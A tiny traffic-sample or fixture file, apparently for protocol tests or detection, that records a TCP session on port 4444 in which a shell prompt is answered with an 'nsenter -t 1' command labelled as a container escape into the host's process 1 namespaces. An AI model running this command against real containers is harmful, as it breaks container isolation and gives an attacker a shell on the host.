# container escape, nsenter into process 1.
proto tcp
client 10.0.0.1:40000
server 10.0.0.2:4444

>>>
\x23\x20

<<<
nsenter -t 1 -m -u -n -i sh\n
